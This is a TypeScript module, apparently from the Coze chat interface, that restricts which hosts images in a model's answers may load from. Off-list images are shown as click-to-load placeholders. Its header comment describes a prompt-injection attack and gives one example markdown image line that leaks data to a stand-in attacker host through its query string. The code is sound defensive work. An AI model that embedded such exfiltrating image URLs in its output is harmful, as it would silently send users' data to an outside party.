/**
 * Which hosts an answer's images may load from. An image loads as soon as
 * it is shown, so an injected `![](https://attacker.example/?q=…)` would send
 * whatever the model put in its URL to that host without a click. Hosts off
 * the list are shown as a click-to-load placeholder instead.
 */

/** Coze's own file and image hosts (and their subdomains): the default list. */
export const DEFAULT_IMAGE_HOSTS: readonly string[] = ['coze.cn', 'coze.com', 'byteimg.com'];

/**
 * Reads an `image-hosts` value: host names separated by spaces or commas,
 * `*.` before a name for its subdomains (a bare name also covers them), `*`
 * for any host. An empty value gives the default list.
 */
export function parseImageHosts(value: string | undefined): readonly string[] {
  const hosts = (value ?? '')
    .split(/[\s,]+/)
    .map((host) => host.trim().toLowerCase().replace(/^\*\./, ''))
    .filter(Boolean);
  return hosts.length ? hosts : DEFAULT_IMAGE_HOSTS;
}

/**
 * Whether an image at `src` may load: its origin is the page's own
 * (`pageOrigin`), or its host is one of `hosts` or below one of them. Only
 * absolute http(s) URLs can be allowed.
 */
export function imageHostAllowed(
  src: string,
  hosts: readonly string[],
  pageOrigin: string
): boolean {
  if (!URL.canParse(src)) return false;
  const url = new URL(src);
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return false;
  if (url.origin === pageOrigin) return true;
  const host = url.hostname.toLowerCase();
  return hosts.some(
    (allowed) => allowed === '*' || host === allowed || host.endsWith(`.${allowed}`)
  );
}

/** The host name to show on an image's placeholder. */
export function imageHostOf(src: string): string {
  return URL.canParse(src) ? new URL(src).hostname : src;
}
